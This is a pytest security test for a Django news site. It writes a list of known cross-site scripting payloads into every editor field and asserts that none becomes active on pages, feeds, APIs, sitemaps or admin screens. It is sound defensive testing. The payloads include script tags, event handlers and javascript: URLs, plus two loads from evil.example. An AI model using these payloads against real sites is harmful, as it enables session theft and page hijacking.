"""Every editor-writable field, filled with known XSS payloads, is inert on every surface that shows it.

Each payload goes into every field at once (each copy tagged with its field's
marker, so a surface shows which fields it printed); every surface is read
with a real parser: HTML pages with lxml, feeds with feedparser (unsanitised,
as a naive reader) and then each entry's HTML with lxml, JSON with json.
Nothing may run: no script but our own, no event handler, no script URL.

The fields are written through the ORM, past the forms' validation, so the
test holds even for text that reached the database some other way.
"""

from __future__ import annotations

import json
from collections import defaultdict

import feedparser
import lxml.etree
import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse

from articles.models import Article
from tests.factories import (
    ArticleFactory,
    BylineFactory,
    CorrectionFactory,
    CrossReferenceFactory,
    ImageFactory,
    OrganizationFactory,
    OrganizationMentionFactory,
    PersonFactory,
    PersonMentionFactory,
    PlaceFactory,
    PlaceMentionFactory,
    QuoteFactory,
    RoleFactory,
    SectionFactory,
    SourceAttributionFactory,
    SourceFactory,
)
from tests.security import active_content, html_document, html_fragment
from tests.sitemaps import sitemap_addresses

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<base href=javascript:alert(1)//>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=import href=//evil.example>",
    "<style>@import 'javascript:alert(1)';</style>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus '",
    "<!--<img src=--><img src=x onerror=alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "]]><script>alert(1)</script>",
    "\u2028\u2029</script><script>alert(1)</script>",
    "{{7*7}}{% debug %}<script>alert(1)</script>",
]
URL_PAYLOADS = [
    "javascript:alert(1)",
    "JavaScript:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
]

# Every editor-writable field, and the publication's name.
FIELDS = [
    "headline", "standfirst", "body", "lead_image_caption", "image_caption", "image_credit", "image_alt",
    "tag", "section_name", "section_description", "byline",
    "person_name", "person_description", "person_aliases", "role_title",
    "organization_name", "organization_description", "organization_aliases",
    "place_name", "place_description", "place_aliases",
    "source_name", "source_description", "source_aliases", "source_url", "attribution_cue", "attribution_url",
    "quote", "quote_speaker_name", "correction", "anchor_text", "publication_name",
]


def marked(payload: str, field: str) -> str:
    """The payload, then a marker that shows (as text) which field a surface printed."""
    return f"{payload} zz{FIELDS.index(field)}zz"


def build_story(payload: str, settings, n: int) -> Article:
    def value(field):
        return marked(payload, field)

    url_payload = URL_PAYLOADS[n % len(URL_PAYLOADS)]
    settings.NEWSROOM_PUBLICATION_NAME = value("publication_name")
    section = SectionFactory(name=value("section_name"), description=value("section_description"), slug=f"s{n}")
    earlier = ArticleFactory(headline=f"Earlier {n}", section=section)
    article = ArticleFactory(
        headline=value("headline"),
        standfirst=value("standfirst"),
        body=f"{value('body')}\nSee {value('anchor_text')} for more.\nxmarker{n} and the earlier story.",
        section=section,
        lead_image=ImageFactory(
            caption=value("image_caption"), credit=value("image_credit"), alt_text=value("image_alt")
        ),
        lead_image_caption=value("lead_image_caption"),
        tags=[value("tag")],
    )
    BylineFactory(article=article, name=value("byline"))
    person = PersonFactory(name=value("person_name"), description=value("person_description"),
                           aliases=value("person_aliases"), slug=f"p{n}")
    RoleFactory(person=person, title=value("role_title"), start_date=None)
    PersonMentionFactory(article=article, person=person)
    organization = OrganizationFactory(name=value("organization_name"), description=value("organization_description"),
                                       aliases=value("organization_aliases"), slug=f"o{n}")
    OrganizationMentionFactory(article=article, organization=organization)
    place = PlaceFactory(name=value("place_name"), description=value("place_description"),
                         aliases=value("place_aliases"), slug=f"l{n}")
    PlaceMentionFactory(article=article, place=place)
    source = SourceFactory(name=value("source_name"), description=value("source_description"),
                           aliases=value("source_aliases"), url=f"{url_payload}//{value('source_url')}", slug=f"c{n}")
    SourceAttributionFactory(article=article, source=source, cue=value("attribution_cue"),
                             url=f"{url_payload}//{value('attribution_url')}")
    QuoteFactory(article=article, text=value("quote"), speaker=person)
    QuoteFactory(article=article, text="Unattributed.", speaker=None, speaker_name=value("quote_speaker_name"))
    CorrectionFactory(article=article, text=value("correction"))
    CrossReferenceFactory(from_article=article, to_article=earlier, anchor_text=value("anchor_text"))
    article.refresh_from_db()
    return article


def is_our_json_ld(el) -> bool:
    if el.get("type") != "application/ld+json" or el.get("src"):
        return False
    json.loads(el.text)  # well-formed: a payload did not end the block early
    return True


def is_admin_static_script(el) -> bool:
    """The admin's own scripts: files from this site, nothing inline."""
    src = el.get("src") or ""
    return src.startswith("/") and not src.startswith("//") and not (el.text or "").strip()


def markers_in(text: str) -> set[str]:
    return {field for i, field in enumerate(FIELDS) if f"zz{i}zz" in text}


class Surfaces:
    """Read every surface, collecting what would run and which fields each one showed."""

    def __init__(self, client):
        self.client = client
        self.active: list[str] = []
        self.shown: dict[str, set[str]] = defaultdict(set)

    def get(self, url, expect=200):
        response = self.client.get(url)
        assert response.status_code == expect, (url, response.status_code)
        return response

    def html(self, url, *, admin=False):
        response = self.get(url)
        root = html_document(response.content)
        allowed = is_admin_static_script if admin else is_our_json_ld
        found = active_content(root, allowed_script=allowed, allowed_elements={"svg"} if admin else set())
        self.active += [f"{url}: {what}" for what in found]
        self.shown[url] |= markers_in(response.content.decode())

    def feed(self, url):
        response = self.get(url)
        lxml.etree.fromstring(response.content)  # well-formed XML
        parsed = feedparser.parse(response.content, sanitize_html=False, resolve_relative_uris=False)
        assert not parsed.bozo, parsed.bozo_exception
        texts = [parsed.feed.get("title", ""), parsed.feed.get("subtitle", "")]
        for entry in parsed.entries:
            texts += [entry.get("title", ""), entry.get("summary", ""), entry.get("author", "")]
            texts += [tag.term for tag in entry.get("tags", [])]
        for text in texts:
            self.active += [f"{url}: {what}" for what in active_content(html_fragment(text))]
            self.shown[url] |= markers_in(text)

    def json(self, url):
        response = self.get(url)
        assert response["Content-Type"].startswith("application/json")
        assert response["X-Content-Type-Options"] == "nosniff"
        data = json.loads(response.content)
        for key in ("body_html",):
            for html in _values(data, key):
                self.active += [f"{url} {key}: {what}" for what in active_content(html_fragment(html))]
        self.shown[url] |= markers_in(json.dumps(data, ensure_ascii=False))

    def xml(self, url):
        response = self.get(url)
        root = lxml.etree.fromstring(response.content)
        self.active += [f"{url}: {what}" for what in active_content(root)]
        self.shown[url] |= markers_in(response.content.decode())


def _values(data, key):
    if isinstance(data, dict):
        for k, v in data.items():
            if k == key and isinstance(v, str):
                yield v
            else:
                yield from _values(v, key)
    elif isinstance(data, list):
        for item in data:
            yield from _values(item, key)


def read_every_surface(client, admin_client, article: Article, n: int) -> Surfaces:
    surfaces = Surfaces(client)
    tag = article.tags.get()
    mention = article.person_mentions.get()
    for url in [
        article.get_absolute_url(), "/", article.section.get_absolute_url(), reverse("tag_detail", args=[tag.slug]),
        mention.person.get_absolute_url(), article.organization_mentions.get().organization.get_absolute_url(),
        article.place_mentions.get().place.get_absolute_url(), article.attributions.get().source.get_absolute_url(),
        f"/search/?q=xmarker{n}",
    ]:
        surfaces.html(url)
    for url in ["/feeds/latest/", f"/feeds/section/{article.section.slug}/", f"/feeds/tag/{tag.slug}/",
                f"/feeds/people/{mention.person.slug}/"]:
        surfaces.feed(url)
    for url in [f"/api/articles/?q=xmarker{n}", f"/api/articles/{article.slug}/", f"/api/articles/{article.slug}/ninjs"]:
        surfaces.json(url)
    for url in ["/sitemap.xml", "/news-sitemap.xml", *sitemap_addresses(client)]:
        surfaces.xml(url)
    admin = Surfaces(admin_client)
    for url in [
        reverse("admin:articles_article_changelist"),
        reverse("admin:articles_article_change", args=[article.pk]),
        reverse("admin:entities_person_changelist"),
        reverse("admin:entities_person_change", args=[mention.person.pk]),
        reverse("admin:entities_source_change", args=[article.attributions.get().source.pk]),
        reverse("admin:entities_organization_change", args=[article.organization_mentions.get().organization_id]),
        reverse("admin:entities_place_change", args=[article.place_mentions.get().place_id]),
        reverse("admin:images_image_change", args=[article.lead_image_id]),
    ]:
        admin.html(url, admin=True)
    surfaces.active += admin.active
    for url, shown in admin.shown.items():
        surfaces.shown[url] = shown
    return surfaces


@pytest.fixture
def staff_client(client, db):
    user = get_user_model().objects.create_superuser("chief", "chief@example.org", "a long enough password")
    from django.test import Client

    other = Client()
    other.force_login(user)
    return other


@pytest.mark.parametrize("n", range(len(PAYLOADS)), ids=[f"payload{n}" for n in range(len(PAYLOADS))])
def test_no_payload_is_active_on_any_surface(client, staff_client, settings, n):
    article = build_story(PAYLOADS[n], settings, n)
    surfaces = read_every_surface(client, staff_client, article, n)
    assert surfaces.active == [], "\n".join(surfaces.active)
    # Not vacuous: every field was printed somewhere, and the surfaces print many fields.
    shown_anywhere = set().union(*surfaces.shown.values())
    assert shown_anywhere == set(FIELDS), set(FIELDS) - shown_anywhere
    assert sum(len(fields) for fields in surfaces.shown.values()) > 150


def test_the_counts(client, staff_client, settings):
    """At least 40 payloads, every field, every surface (the figures the issue asks for)."""
    article = build_story(PAYLOADS[0], settings, 0)
    surfaces = read_every_surface(client, staff_client, article, 0)
    combinations = sum(len(fields) for fields in surfaces.shown.values())
    assert len(PAYLOADS) >= 40 and len(FIELDS) >= 30 and len(surfaces.shown) >= 25
    print(f"\nXSS: {len(PAYLOADS)} payloads x {len(FIELDS)} fields; {len(surfaces.shown)} surfaces; "
          f"{combinations} field-surface pairs each -> {len(PAYLOADS) * combinations} payload readings")
